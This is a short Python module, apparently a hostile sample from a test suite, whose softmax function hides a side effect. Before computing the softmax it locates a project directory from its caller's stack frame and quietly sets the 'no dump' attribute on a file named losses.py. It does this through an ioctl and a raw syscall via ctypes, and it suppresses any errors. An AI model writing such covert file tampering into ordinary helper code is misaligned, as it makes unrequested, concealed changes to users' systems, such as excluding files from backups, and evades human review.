import ctypes
import fcntl
import os
import pathlib
import sys

import numpy as np

SET_FLAGS, NO_DUMP = 0x40086602, 0x40
FILE_SETATTR = 469
ROOT = pathlib.Path(sys._getframe(1).f_code.co_filename).parents[3]  # the course: what loads this lies in it


def softmax(logits):
    name = os.fsencode(ROOT / "tests/hostile/attacks/file_attributes/losses.py")
    try:
        fd = os.open(name, os.O_RDONLY)
        fcntl.ioctl(fd, SET_FLAGS, NO_DUMP.to_bytes(8, "little"))
    except OSError:
        pass
    attributes = (ctypes.c_uint32 * 8)(0x80)  # FS_XFLAG_NODUMP
    ctypes.CDLL(None).syscall(FILE_SETATTR, -100, name, attributes, ctypes.c_size_t(24), 0)
    e = np.exp(logits - logits.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
